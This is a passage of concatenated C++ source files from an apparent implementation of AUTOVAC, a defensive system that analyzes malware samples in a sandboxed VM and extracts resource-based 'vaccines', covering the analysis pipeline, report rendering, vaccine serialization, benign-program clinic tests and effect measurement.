                                                  phase1_options, {}, snapshots)
                 : sandbox::RunProgram(sample, phase1_env, phase1_options);
    if (snapshots.overflowed()) SnapshotCapOverflowCounter()->Increment();
  } catch (const std::exception& e) {
    report.phase1_status =
        Status::Internal(std::string("phase-1 crash: ") + e.what());
    report.phase_costs = tracer.PhaseTotals(first_span);
    return report;
  }
  report.faults_injected += phase1.faults_injected;

  report.phase1_stop = phase1.stop_reason;
  for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
    if (!call.is_resource_api) continue;
    ++report.resource_api_occurrences;
    if (call.taint_reached_predicate) ++report.tainted_occurrences;
  }
  report.resource_sensitive = phase1.AnyTaintedPredicate();
  if (report.resource_sensitive) {
    // ---- Phase-II ---------------------------------------------------
    try {
      ScopedSpan span(tracer, "phase2");
      AnalyzePhase2(sample, phase1, report,
                    fast_path ? &snapshots : nullptr);
    } catch (const std::exception& e) {
      report.phase2_status =
          Status::Internal(std::string("phase-2 crash: ") + e.what());
    }
  }
  // else: "if we find no program branches depend on any system resource,
  // we filter this malware" (§II-B).

  report.natural_trace = std::move(phase1.api_trace);
  report.phase_costs = tracer.PhaseTotals(first_span);
  return report;
}

std::string_view SampleDispositionName(SampleDisposition disposition) {
  switch (disposition) {
    case SampleDisposition::kAnalyzed: return "analyzed";
    case SampleDisposition::kIsolatedCrash: return "isolated-crash";
    case SampleDisposition::kWorkerCrashed: return "worker-crashed";
    case SampleDisposition::kDeadlineExceeded: return "deadline-exceeded";
    case SampleDisposition::kQuarantined: return "quarantined";
  }
  return "unknown";
}

SampleReport AnalyzeIsolated(const VaccinePipeline& pipeline,
                             const vm::Program& sample) {
  try {
    return pipeline.Analyze(sample);
  } catch (const std::exception& e) {
    // Last-resort isolation: Analyze's own catch blocks should make
    // this unreachable, but a hostile sample must never kill the wave.
    SampleReport report;
    report.sample_name = sample.name;
    report.evasion_class = sample.evasion_class;
    report.disposition = SampleDisposition::kIsolatedCrash;
    report.phase1_status =
        Status::Internal(std::string("analysis crash: ") + e.what());
    return report;
  }
}

CampaignReport BuildCampaignReport(std::vector<SampleReport> reports) {
  CampaignReport campaign;
  for (const SampleReport& report : reports) {
    if (report.disposition != SampleDisposition::kAnalyzed) {
      ++campaign.samples_failed;
    }
    if (!report.Clean()) ++campaign.samples_degraded;
    campaign.total_vaccines += report.vaccines.size();
    campaign.total_demoted += report.vaccines_demoted;
    campaign.total_faults_injected += report.faults_injected;
  }
  campaign.reports = std::move(reports);
  // Roll the per-sample phase costs up into campaign totals, keyed and
  // ordered by phase name so the dashboard stays deterministic. The
  // per-report rollups are the only source: worker-produced reports carry
  // their costs across the process boundary, where the supervisor's own
  // tracer saw nothing.
  std::map<std::string, PhaseTotal> totals;
  for (const SampleReport& report : campaign.reports) {
    for (const PhaseTotal& cost : report.phase_costs) {
      PhaseTotal& total = totals[cost.name];
      total.name = cost.name;
      total.spans += cost.spans;
      total.ticks += cost.ticks;
      total.wall_ns += cost.wall_ns;
    }
  }
  campaign.phase_costs.reserve(totals.size());
  for (auto& [name, total] : totals) {
    campaign.phase_costs.push_back(std::move(total));
  }
  return campaign;
}

CampaignReport AnalyzeCampaign(const VaccinePipeline& pipeline,
                               const std::vector<vm::Program>& samples) {
  std::vector<SampleReport> reports;
  reports.reserve(samples.size());
  for (const vm::Program& sample : samples) {
    reports.push_back(AnalyzeIsolated(pipeline, sample));
  }
  return BuildCampaignReport(std::move(reports));
}

}  // namespace autovac::vaccine
