#include "vaccine/pipeline.h"

#include <set>

#include "sandbox/sandbox.h"
#include "support/logging.h"

namespace autovac::vaccine {

VaccinePipeline::VaccinePipeline(const analysis::ExclusivenessIndex* index,
                                 PipelineOptions options)
    : index_(index), options_(options) {}

os::HostEnvironment VaccinePipeline::BaselineMachine() const {
  return os::HostEnvironment::StandardMachine(options_.machine_seed);
}

SampleReport VaccinePipeline::Analyze(const vm::Program& sample) const {
  SampleReport report;
  report.sample_name = sample.name;
  report.sample_digest = sample.Digest();

  // ---- Phase-I: candidate selection ---------------------------------
  os::HostEnvironment phase1_env = BaselineMachine();
  sandbox::RunOptions phase1_options;
  phase1_options.cycle_budget = options_.phase1_budget;
  phase1_options.enable_taint = true;
  phase1_options.record_instructions = true;  // for determinism analysis
  auto phase1 = sandbox::RunProgram(sample, phase1_env, phase1_options);

  report.phase1_stop = phase1.stop_reason;
  for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
    if (!call.is_resource_api) continue;
    ++report.resource_api_occurrences;
    if (call.taint_reached_predicate) ++report.tainted_occurrences;
  }
  report.resource_sensitive = phase1.AnyTaintedPredicate();
  if (!report.resource_sensitive) {
    // "if we find no program branches depend on any system resource, we
    // filter this malware" (§II-B).
    report.natural_trace = std::move(phase1.api_trace);
    return report;
  }

  // ---- Phase-II -------------------------------------------------------
  std::vector<analysis::MutationTarget> targets =
      analysis::CollectMutationTargets(phase1.api_trace);
  report.targets_considered = targets.size();

  const os::HostEnvironment baseline = BaselineMachine();
  std::set<std::pair<os::ResourceType, std::string>> vaccine_keys;
  size_t impact_runs = 0;
  for (const analysis::MutationTarget& target : targets) {
    // One vaccine per resource: several call sites touching the same
    // identifier collapse into the first effective mutation.
    if (vaccine_keys.count({target.resource_type, target.identifier}) > 0) {
      continue;
    }
    // Step-I: exclusiveness (cheap — runs before the impact-run cap).
    if (options_.run_exclusiveness && index_ != nullptr &&
        !index_->IsExclusive(target.identifier)) {
      ++report.filtered_not_exclusive;
      continue;
    }
    if (target.identifier.empty()) {
      ++report.filtered_not_exclusive;
      continue;
    }
    // Each surviving target costs a full mutated re-run; cap them.
    if (impact_runs >= options_.max_targets) {
      LogInfo("sample %s: impact-run cap (%zu) reached",
              sample.name.c_str(), options_.max_targets);
      break;
    }
    ++impact_runs;

    // Step-II: impact.
    analysis::ImpactResult impact = analysis::RunImpactAnalysis(
        sample, baseline, phase1.api_trace, target, options_.impact);
    if (impact.effect.type == analysis::ImmunizationType::kNone) {
      ++report.filtered_no_impact;
      continue;
    }

    // Step-III: determinism. Anchor at a call that carries the identifier
    // string in memory (handle-based occurrences defer to the opener).
    uint32_t anchor = target.anchor_sequence;
    if (phase1.api_trace.calls[anchor].identifier_addr == 0) {
      for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
        if (call.resource_identifier == target.identifier &&
            call.identifier_addr != 0) {
          anchor = call.sequence;
          break;
        }
      }
    }
    auto determinism = analysis::AnalyzeIdentifier(
        phase1.instruction_trace, phase1.api_trace, anchor,
        options_.determinism);
    if (!determinism.ok()) {
      ++report.filtered_non_deterministic;
      continue;
    }
    if (determinism->cls == analysis::IdentifierClass::kNonDeterministic) {
      // "we delete all the entirely random identifiers" (§IV-C).
      ++report.filtered_non_deterministic;
      continue;
    }

    // ---- assemble the vaccine ----------------------------------------
    Vaccine vaccine;
    vaccine.malware_name = sample.name;
    vaccine.malware_digest = report.sample_digest;
    vaccine.resource_type = target.resource_type;
    vaccine.operation = target.operation;
    vaccine.identifier = target.identifier;
    vaccine.simulate_presence = target.SimulatesPresence();
    vaccine.identifier_kind = determinism->cls;
    vaccine.immunization = impact.effect.type;
    vaccine.pattern = determinism->pattern;
    vaccine.delivery =
        determinism->cls == analysis::IdentifierClass::kStatic
            ? DeliveryMethod::kDirectInjection
            : DeliveryMethod::kDaemon;
    if (determinism->cls ==
        analysis::IdentifierClass::kAlgorithmDeterministic) {
      auto slice = analysis::ExtractSlice(sample, phase1.instruction_trace,
                                          phase1.api_trace, *determinism,
                                          anchor);
      if (slice.ok()) vaccine.slice = std::move(slice).value();
    }
    for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
      if (call.is_resource_api &&
          call.resource_identifier == target.identifier) {
        vaccine.observed_operations.insert(
            os::OperationSymbol(call.operation));
      }
    }
    vaccine_keys.insert({target.resource_type, target.identifier});
    report.vaccines.push_back(std::move(vaccine));
  }

  report.natural_trace = std::move(phase1.api_trace);
  return report;
}

}  // namespace autovac::vaccine
