#include "vaccine/report.h"

#include "sandbox/sandbox.h"
#include "support/strings.h"
#include "vm/disassembler.h"

namespace autovac::vaccine {
namespace {

std::string DeliveryPlan(const Vaccine& v) {
  switch (v.identifier_kind) {
    case analysis::IdentifierClass::kStatic:
      return v.simulate_presence
                 ? "direct injection: create the resource (system-owned, "
                   "create/write/delete denied)"
                 : "direct injection: plant a deny-all decoy at the "
                   "identifier";
    case analysis::IdentifierClass::kAlgorithmDeterministic:
      return "vaccine daemon: replay the identifier-generation slice per "
             "host, then inject";
    case analysis::IdentifierClass::kPartialStatic:
      return StrFormat(
          "vaccine daemon: intercept %s APIs, force the predefined result "
          "for identifiers matching `%s`",
          std::string(os::ResourceTypeName(v.resource_type)).c_str(),
          v.pattern.text().c_str());
    case analysis::IdentifierClass::kNonDeterministic:
      break;
  }
  return "not deployable";
}

}  // namespace

std::string RenderSampleReport(const SampleReport& report) {
  std::string out;
  // Sample names and identifiers come from hostile input; escape
  // non-printable bytes so a malicious name cannot corrupt the report.
  out += StrFormat("# AUTOVAC analysis: %s\n\n",
                   CEscape(report.sample_name).c_str());
  out += StrFormat("sample digest: `%s`\n\n", report.sample_digest.c_str());

  out += "## Phase I — candidate selection\n\n";
  out += StrFormat(
      "| metric | value |\n|---|---|\n"
      "| resource-API occurrences | %zu |\n"
      "| occurrences whose taint reached a branch | %zu |\n"
      "| resource-sensitive | %s |\n"
      "| profiling run ended | %s |\n\n",
      report.resource_api_occurrences, report.tainted_occurrences,
      report.resource_sensitive ? "yes" : "no",
      vm::StopReasonName(report.phase1_stop));
  if (!report.resource_sensitive) {
    out += "No program branch depends on any system resource; the sample "
           "is filtered (no vaccine can exist for it).\n";
    return out;
  }

  // Telemetry section: only the deterministic fields (span counts and
  // instruction ticks). Wall times live in the Chrome trace export so the
  // report stays byte-identical across same-seed runs.
  if (!report.phase_costs.empty()) {
    out += "## Analysis cost by phase\n\n";
    out += "| phase | spans | VM instructions |\n|---|---|---|\n";
    for (const PhaseTotal& cost : report.phase_costs) {
      out += StrFormat("| %s | %zu | %llu |\n", cost.name.c_str(), cost.spans,
                       static_cast<unsigned long long>(cost.ticks));
    }
    out += "\n";
  }

  out += "## Phase II — filter funnel\n\n";
  out += StrFormat(
      "| stage | count |\n|---|---|\n"
      "| mutation targets considered | %zu |\n"
      "| rejected: identifier not exclusive | %zu |\n"
      "| rejected: mutation has no behavioural impact | %zu |\n"
      "| rejected: identifier non-deterministic | %zu |\n"
      "| **vaccines extracted** | **%zu** |\n\n",
      report.targets_considered, report.filtered_not_exclusive,
      report.filtered_no_impact, report.filtered_non_deterministic,
      report.vaccines.size());

  if (report.vaccines.empty()) return out;

  out += "## Vaccines\n\n";
  size_t index = 1;
  for (const Vaccine& v : report.vaccines) {
    out += StrFormat("### %zu. %s `%s`\n\n", index++,
                     std::string(os::ResourceTypeName(v.resource_type))
                         .c_str(),
                     CEscape(v.identifier).c_str());
    out += StrFormat(
        "| property | value |\n|---|---|\n"
        "| behaviour | %s |\n"
        "| identifier kind | %s |\n"
        "| immunization | %s |\n"
        "| operations observed | %s |\n"
        "| delivery | %s |\n\n",
        v.simulate_presence ? "simulate presence (infection marker)"
                            : "deny access",
        std::string(analysis::IdentifierClassName(v.identifier_kind))
            .c_str(),
        std::string(analysis::ImmunizationTypeName(v.immunization)).c_str(),
        v.OperationSymbols().c_str(), DeliveryPlan(v).c_str());
    if (v.slice.has_value()) {
      out += "identifier-generation slice (replayed on each end host):\n\n";
      out += "```asm\n";
      out += vm::DisassembleProgram(v.slice->program,
                                    sandbox::SandboxApiNamer());
      out += "```\n\n";
    }
  }
  return out;
}

}  // namespace autovac::vaccine
