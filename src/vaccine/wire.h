// Binary vaccine codec, shared by the vacstore checkpoint image and the
// vacd binary wire protocol so both sides of the feed agree on one
// byte layout.
//
// A vaccine encodes as a one-byte format tag followed by either the
// flat field list (the common case) or its canonical JSON (the rare
// slice-bearing, algorithm-deterministic kind, whose slice program the
// JSON codec already round-trips exactly). Strings are length-prefixed,
// integers little-endian (support/binio.h). Decoding validates every
// enum against its bound, so a corrupt or hostile image degrades to an
// error, never an out-of-range enum.
#pragma once

#include <string>

#include "support/binio.h"
#include "vaccine/vaccine.h"

namespace autovac::vaccine {

// Format tags, first byte of every encoded vaccine.
inline constexpr uint8_t kVaccineWireFlat = 0;
inline constexpr uint8_t kVaccineWireJson = 1;  // embedded canonical JSON

void EncodeVaccine(std::string& out, const Vaccine& vaccine);

// Returns false with a reason in `*error` on truncation or corruption.
[[nodiscard]] bool DecodeVaccine(BinReader& reader, Vaccine* vaccine,
                                 std::string* error);

}  // namespace autovac::vaccine
