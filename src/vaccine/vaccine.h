// The malware vaccine: a specific system resource (or manipulation of
// one) whose presence or denial immunizes a machine against a malware
// sample (§II-A), with the paper's full taxonomy: identifier kind
// (static / partial static / algorithm-deterministic), immunization
// effectiveness (full / partial types I-IV), and delivery method (direct
// injection / vaccine daemon).
#pragma once

#include <optional>
#include <set>
#include <string>
#include <vector>

#include "analysis/determinism.h"
#include "analysis/immunization.h"
#include "os/resources.h"
#include "support/pattern.h"

namespace autovac::vaccine {

enum class DeliveryMethod : uint8_t {
  kDirectInjection = 0,
  kDaemon,
};

[[nodiscard]] std::string_view DeliveryMethodName(DeliveryMethod method);

struct Vaccine {
  // Provenance.
  std::string malware_name;
  std::string malware_digest;

  // The manipulated resource.
  os::ResourceType resource_type = os::ResourceType::kFile;
  os::Operation operation = os::Operation::kOpen;  // mutated operation
  std::string identifier;  // concrete value on the analysis machine

  // Vaccine behaviour: simulate the resource's existence (infection
  // marker) vs deny the malware access to it (§II-A's two behaviours).
  bool simulate_presence = false;

  // Taxonomy.
  analysis::IdentifierClass identifier_kind =
      analysis::IdentifierClass::kStatic;
  analysis::ImmunizationType immunization =
      analysis::ImmunizationType::kNone;
  DeliveryMethod delivery = DeliveryMethod::kDirectInjection;

  // Partial-static identifiers match by wildcard pattern.
  Pattern pattern = Pattern::Literal("");

  // Algorithm-deterministic identifiers ship a regeneration slice.
  std::optional<analysis::VaccineSlice> slice;

  // All operations the malware performed on this resource (the OperType
  // column of Table III), as symbols: C, E, R, W, D.
  std::set<char> observed_operations;

  // Filled by the effect analysis (§VI-E).
  double behavior_decreasing_ratio = 0.0;

  [[nodiscard]] std::string OperationSymbols() const {
    return std::string(observed_operations.begin(),
                       observed_operations.end());
  }

  // One-line human-readable description.
  [[nodiscard]] std::string Summary() const;
};

}  // namespace autovac::vaccine
