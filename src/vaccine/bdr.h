// Vaccine effect analysis (§VI-E): run the sample for 5 minutes on a
// normal machine and on a vaccine-deployed machine, and compute the
// Behavior Decreasing Ratio  BDR = (Nn - Nd) / Nn  over native call
// counts. Larger BDR = more malware behaviour suppressed.
#pragma once

#include <vector>

#include "os/host_environment.h"
#include "sandbox/sandbox.h"
#include "vaccine/delivery.h"
#include "vaccine/vaccine.h"
#include "vm/program.h"

namespace autovac::vaccine {

struct BdrOptions {
  uint64_t cycle_budget = sandbox::kFiveMinuteBudget;
  uint64_t machine_seed = 7;
};

struct BdrResult {
  size_t native_calls_normal = 0;      // Nn
  size_t native_calls_vaccinated = 0;  // Nd
  double bdr = 0.0;
  bool malware_terminated_early = false;  // vaccinated run self-exited
};

// Measures the effect of `vaccines` (typically one sample's set) on the
// sample's behaviour.
[[nodiscard]] BdrResult MeasureBdr(const vm::Program& sample,
                                   const std::vector<Vaccine>& vaccines,
                                   const BdrOptions& options = {});

}  // namespace autovac::vaccine
