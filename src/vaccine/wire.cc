#include "vaccine/wire.h"

#include "support/json.h"
#include "vaccine/json.h"

namespace autovac::vaccine {

void EncodeVaccine(std::string& out, const Vaccine& v) {
  if (v.slice.has_value()) {
    PutU8(out, kVaccineWireJson);
    PutStr(out, VaccineToJson(v));
    return;
  }
  PutU8(out, kVaccineWireFlat);
  PutStr(out, v.malware_name);
  PutStr(out, v.malware_digest);
  PutU8(out, static_cast<uint8_t>(v.resource_type));
  PutU8(out, static_cast<uint8_t>(v.operation));
  PutStr(out, v.identifier);
  PutU8(out, v.simulate_presence ? 1 : 0);
  PutU8(out, static_cast<uint8_t>(v.identifier_kind));
  PutU8(out, static_cast<uint8_t>(v.immunization));
  PutU8(out, static_cast<uint8_t>(v.delivery));
  PutStr(out, v.pattern.text());
  PutStr(out, v.OperationSymbols());
  PutF64(out, v.behavior_decreasing_ratio);
}

bool DecodeVaccine(BinReader& reader, Vaccine* vaccine, std::string* error) {
  const auto fail = [error](const char* what) {
    *error = what;
    return false;
  };
  uint8_t format;
  if (!reader.U8(&format)) return fail("truncated vaccine format");
  if (format != kVaccineWireFlat && format != kVaccineWireJson) {
    return fail("unknown vaccine format");
  }
  if (format == kVaccineWireJson) {
    std::string json;
    if (!reader.Str(&json)) return fail("truncated vaccine JSON");
    auto parsed = ParseJson(json);
    if (!parsed.ok()) return fail("corrupt vaccine JSON");
    auto decoded = VaccineFromJson(parsed.value());
    if (!decoded.ok()) return fail("invalid vaccine JSON");
    *vaccine = std::move(decoded).value();
    return true;
  }
  Vaccine& v = *vaccine;
  uint8_t byte;
  if (!reader.Str(&v.malware_name)) return fail("truncated malware name");
  if (!reader.Str(&v.malware_digest)) return fail("truncated malware digest");
  if (!reader.U8(&byte) || byte >= os::kNumResourceTypes) {
    return fail("bad resource type");
  }
  v.resource_type = static_cast<os::ResourceType>(byte);
  if (!reader.U8(&byte) || byte >= os::kNumOperations) {
    return fail("bad operation");
  }
  v.operation = static_cast<os::Operation>(byte);
  if (!reader.Str(&v.identifier)) return fail("truncated identifier");
  if (!reader.U8(&byte)) return fail("truncated simulate flag");
  v.simulate_presence = byte != 0;
  if (!reader.U8(&byte) ||
      byte > static_cast<uint8_t>(
                 analysis::IdentifierClass::kNonDeterministic)) {
    return fail("bad identifier class");
  }
  v.identifier_kind = static_cast<analysis::IdentifierClass>(byte);
  if (!reader.U8(&byte) ||
      byte > static_cast<uint8_t>(
                 analysis::ImmunizationType::kTypeIVProcessInjection)) {
    return fail("bad immunization type");
  }
  v.immunization = static_cast<analysis::ImmunizationType>(byte);
  if (!reader.U8(&byte) ||
      byte > static_cast<uint8_t>(DeliveryMethod::kDaemon)) {
    return fail("bad delivery method");
  }
  v.delivery = static_cast<DeliveryMethod>(byte);
  std::string pattern_text;
  if (!reader.Str(&pattern_text)) return fail("truncated pattern");
  auto pattern = Pattern::Compile(pattern_text);
  if (!pattern.ok()) return fail("invalid pattern");
  v.pattern = std::move(pattern).value();
  std::string operations;
  if (!reader.Str(&operations)) return fail("truncated operations");
  for (char c : operations) v.observed_operations.insert(c);
  if (!reader.F64(&v.behavior_decreasing_ratio)) return fail("truncated bdr");
  return true;
}

}  // namespace autovac::vaccine
