#include "vaccine/clinic.h"

#include "support/tracing.h"
#include "vaccine/delivery.h"

namespace autovac::vaccine {

bool BehavesIdentically(const vm::Program& program,
                        const os::HostEnvironment& clean,
                        const os::HostEnvironment& vaccinated,
                        const sandbox::ApiHook& daemon_hook,
                        uint64_t cycle_budget) {
  sandbox::RunOptions options;
  options.cycle_budget = cycle_budget;
  options.enable_taint = false;

  os::HostEnvironment clean_copy = clean;
  os::HostEnvironment vaccinated_copy = vaccinated;

  auto clean_run = sandbox::RunProgram(program, clean_copy, options);
  std::vector<sandbox::ApiHook> hooks;
  if (daemon_hook) hooks.push_back(daemon_hook);
  auto vaccinated_run =
      sandbox::RunProgram(program, vaccinated_copy, options, hooks);

  if (clean_run.stop_reason != vaccinated_run.stop_reason) return false;
  const auto& a = clean_run.api_trace.calls;
  const auto& b = vaccinated_run.api_trace.calls;
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (a[i].api_name != b[i].api_name) return false;
    if (a[i].succeeded != b[i].succeeded) return false;
    if (a[i].caller_pc != b[i].caller_pc) return false;
  }
  return true;
}

ClinicResult RunClinicTest(const std::vector<Vaccine>& candidates,
                           const std::vector<vm::Program>& benign_corpus,
                           const ClinicOptions& options) {
  ClinicResult result;
  ScopedSpan span(GlobalTracer(), "clinic");
  const os::HostEnvironment clean =
      os::HostEnvironment::StandardMachine(options.machine_seed);

  for (const Vaccine& vaccine : candidates) {
    VaccineDaemon daemon;
    daemon.AddVaccine(vaccine);
    os::HostEnvironment vaccinated = clean;
    daemon.Install(vaccinated);
    const sandbox::ApiHook hook = daemon.Hook();

    bool passed = true;
    std::string reason;
    for (const vm::Program& benign : benign_corpus) {
      if (!BehavesIdentically(benign, clean, vaccinated, hook,
                              options.cycle_budget)) {
        passed = false;
        reason = benign.name;
        break;
      }
    }
    if (passed) {
      result.passed.push_back(vaccine);
    } else {
      result.discarded.push_back(vaccine);
      result.discard_reasons.push_back(reason);
    }
  }
  return result;
}

}  // namespace autovac::vaccine
