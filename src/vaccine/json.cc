#include "vaccine/json.h"

#include <cstdlib>

#include "support/digest.h"
#include "support/strings.h"
#include "trace/serialize.h"
#include "vm/cpu.h"

namespace autovac::vaccine {
namespace {

constexpr size_t kNumStatusCodes =
    static_cast<size_t>(StatusCode::kDeadlineExceeded) + 1;
constexpr size_t kNumDispositions =
    static_cast<size_t>(SampleDisposition::kQuarantined) + 1;
constexpr size_t kNumIdentifierClasses =
    static_cast<size_t>(analysis::IdentifierClass::kNonDeterministic) + 1;

std::string Quoted(std::string_view text) {
  return "\"" + JsonEscape(text) + "\"";
}

// Shortest double literal that parses back to the same bits.
std::string DoubleLiteral(double value) {
  std::string out = StrFormat("%.17g", value);
  const std::string shorter = StrFormat("%.15g", value);
  if (std::strtod(shorter.c_str(), nullptr) == value) return shorter;
  return out;
}

Result<uint64_t> EnumField(const JsonValue& json, std::string_view key,
                           size_t limit) {
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t value,
                           JsonFieldUint64(json, key));
  if (value >= limit) {
    return Status::InvalidArgument(
        StrFormat("%s out of range: %llu", std::string(key).c_str(),
                  static_cast<unsigned long long>(value)));
  }
  return value;
}

std::string SliceToJson(const analysis::VaccineSlice& slice) {
  std::string out = StrFormat(
      "{\"name\":%s,\"entry\":%u,\"output_addr\":%u,\"output_len\":%u,"
      "\"code\":[",
      Quoted(slice.program.name).c_str(), slice.program.entry,
      slice.output_addr, slice.output_len);
  for (size_t i = 0; i < slice.program.code.size(); ++i) {
    const vm::Instruction& inst = slice.program.code[i];
    if (i > 0) out += ",";
    out += StrFormat("[%d,%d,%d,%lld]", static_cast<int>(inst.op),
                     static_cast<int>(inst.r1), static_cast<int>(inst.r2),
                     static_cast<long long>(inst.imm));
  }
  out += "],\"data\":[";
  for (size_t i = 0; i < slice.program.data.size(); ++i) {
    const vm::DataBlob& blob = slice.program.data[i];
    if (i > 0) out += ",";
    out += StrFormat("{\"addr\":%u,\"bytes\":\"", blob.address);
    for (char c : blob.bytes) {
      out += StrFormat("%02x", static_cast<unsigned char>(c));
    }
    out += "\"}";
  }
  out += "]}";
  return out;
}

Result<analysis::VaccineSlice> SliceFromJson(const JsonValue& json) {
  if (!json.is_object()) {
    return Status::InvalidArgument("slice is not an object");
  }
  analysis::VaccineSlice slice;
  AUTOVAC_ASSIGN_OR_RETURN(slice.program.name,
                           JsonFieldString(json, "name"));
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t entry,
                           JsonFieldUint64(json, "entry"));
  slice.program.entry = static_cast<uint32_t>(entry);
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t output_addr,
                           JsonFieldUint64(json, "output_addr"));
  slice.output_addr = static_cast<uint32_t>(output_addr);
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t output_len,
                           JsonFieldUint64(json, "output_len"));
  slice.output_len = static_cast<uint32_t>(output_len);

  const JsonValue* code = json.Find("code");
  if (code == nullptr || !code->is_array()) {
    return Status::InvalidArgument("slice has no code array");
  }
  for (const JsonValue& inst_json : code->array) {
    if (!inst_json.is_array() || inst_json.array.size() != 4) {
      return Status::InvalidArgument("bad slice instruction");
    }
    AUTOVAC_ASSIGN_OR_RETURN(const int64_t op,
                             inst_json.array[0].AsInt64());
    AUTOVAC_ASSIGN_OR_RETURN(const int64_t r1,
                             inst_json.array[1].AsInt64());
    AUTOVAC_ASSIGN_OR_RETURN(const int64_t r2,
                             inst_json.array[2].AsInt64());
    AUTOVAC_ASSIGN_OR_RETURN(const int64_t imm,
                             inst_json.array[3].AsInt64());
    slice.program.code.push_back({static_cast<vm::Op>(op),
                                  static_cast<vm::Reg>(r1),
                                  static_cast<vm::Reg>(r2), imm});
  }
  const JsonValue* data = json.Find("data");
  if (data == nullptr || !data->is_array()) {
    return Status::InvalidArgument("slice has no data array");
  }
  for (const JsonValue& blob_json : data->array) {
    vm::DataBlob blob;
    AUTOVAC_ASSIGN_OR_RETURN(const uint64_t addr,
                             JsonFieldUint64(blob_json, "addr"));
    blob.address = static_cast<uint32_t>(addr);
    AUTOVAC_ASSIGN_OR_RETURN(const std::string hex,
                             JsonFieldString(blob_json, "bytes"));
    if (hex.size() % 2 != 0) {
      return Status::InvalidArgument("odd slice blob hex length");
    }
    auto digit = [](char c) -> int {
      if (c >= '0' && c <= '9') return c - '0';
      if (c >= 'a' && c <= 'f') return c - 'a' + 10;
      return -1;
    };
    for (size_t i = 0; i < hex.size(); i += 2) {
      const int hi = digit(hex[i]);
      const int lo = digit(hex[i + 1]);
      if (hi < 0 || lo < 0) {
        return Status::InvalidArgument("bad slice blob hex");
      }
      blob.bytes.push_back(static_cast<char>(hi * 16 + lo));
    }
    slice.program.data.push_back(std::move(blob));
  }
  return slice;
}

}  // namespace

std::string StatusToJson(const Status& status) {
  if (status.ok()) return "{\"code\":0}";
  return StrFormat("{\"code\":%d,\"message\":%s}",
                   static_cast<int>(status.code()),
                   Quoted(status.message()).c_str());
}

Status StatusFromJson(const JsonValue& json, Status* out) {
  if (!json.is_object()) {
    return Status::InvalidArgument("status is not an object");
  }
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t code,
                           EnumField(json, "code", kNumStatusCodes));
  if (code == 0) {
    *out = Status::Ok();
    return Status::Ok();
  }
  std::string message;
  if (const JsonValue* field = json.Find("message"); field != nullptr) {
    AUTOVAC_ASSIGN_OR_RETURN(message, field->AsString());
  }
  *out = Status(static_cast<StatusCode>(code), std::move(message));
  return Status::Ok();
}

std::string VaccineToJson(const Vaccine& vaccine) {
  std::string out = StrFormat(
      "{\"malware_name\":%s,\"malware_digest\":%s,"
      "\"resource_type\":%d,\"operation\":%d,\"identifier\":%s,"
      "\"simulate_presence\":%s,\"identifier_kind\":%d,"
      "\"immunization\":%d,\"delivery\":%d,\"pattern\":%s,"
      "\"operations\":%s,\"bdr\":%s",
      Quoted(vaccine.malware_name).c_str(),
      Quoted(vaccine.malware_digest).c_str(),
      static_cast<int>(vaccine.resource_type),
      static_cast<int>(vaccine.operation),
      Quoted(vaccine.identifier).c_str(),
      vaccine.simulate_presence ? "true" : "false",
      static_cast<int>(vaccine.identifier_kind),
      static_cast<int>(vaccine.immunization),
      static_cast<int>(vaccine.delivery),
      Quoted(vaccine.pattern.text()).c_str(),
      Quoted(vaccine.OperationSymbols()).c_str(),
      DoubleLiteral(vaccine.behavior_decreasing_ratio).c_str());
  if (vaccine.slice.has_value()) {
    out += ",\"slice\":" + SliceToJson(*vaccine.slice);
  }
  out += "}";
  return out;
}

Result<Vaccine> VaccineFromJson(const JsonValue& json) {
  if (!json.is_object()) {
    return Status::InvalidArgument("vaccine is not an object");
  }
  Vaccine vaccine;
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.malware_name,
                           JsonFieldString(json, "malware_name"));
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.malware_digest,
                           JsonFieldString(json, "malware_digest"));
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t resource_type,
      EnumField(json, "resource_type", os::kNumResourceTypes));
  vaccine.resource_type = static_cast<os::ResourceType>(resource_type);
  AUTOVAC_ASSIGN_OR_RETURN(const uint64_t operation,
                           EnumField(json, "operation", os::kNumOperations));
  vaccine.operation = static_cast<os::Operation>(operation);
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.identifier,
                           JsonFieldString(json, "identifier"));
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.simulate_presence,
                           JsonFieldBool(json, "simulate_presence"));
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t kind,
      EnumField(json, "identifier_kind", kNumIdentifierClasses));
  vaccine.identifier_kind = static_cast<analysis::IdentifierClass>(kind);
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t immunization,
      EnumField(json, "immunization",
                static_cast<size_t>(
                    analysis::ImmunizationType::kTypeIVProcessInjection) +
                    1));
  vaccine.immunization =
      static_cast<analysis::ImmunizationType>(immunization);
  AUTOVAC_ASSIGN_OR_RETURN(
      const uint64_t delivery,
      EnumField(json, "delivery",
                static_cast<size_t>(DeliveryMethod::kDaemon) + 1));
  vaccine.delivery = static_cast<DeliveryMethod>(delivery);
  AUTOVAC_ASSIGN_OR_RETURN(const std::string pattern_text,
                           JsonFieldString(json, "pattern"));
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.pattern,
                           Pattern::Compile(pattern_text));
  AUTOVAC_ASSIGN_OR_RETURN(const std::string operations,
                           JsonFieldString(json, "operations"));
  for (char c : operations) vaccine.observed_operations.insert(c);
  const JsonValue* bdr = json.Find("bdr");
  if (bdr == nullptr) {
    return Status::InvalidArgument("missing JSON field: bdr");
  }
  AUTOVAC_ASSIGN_OR_RETURN(vaccine.behavior_decreasing_ratio,
                           bdr->AsDouble());
  if (const JsonValue* slice = json.Find("slice"); slice != nullptr) {
    AUTOVAC_ASSIGN_OR_RETURN(vaccine.slice, SliceFromJson(*slice));
  }
  return vaccine;
}

std::string VaccineDigest(const Vaccine& vaccine) {
  return HexDigest128(VaccineToJson(vaccine));
}

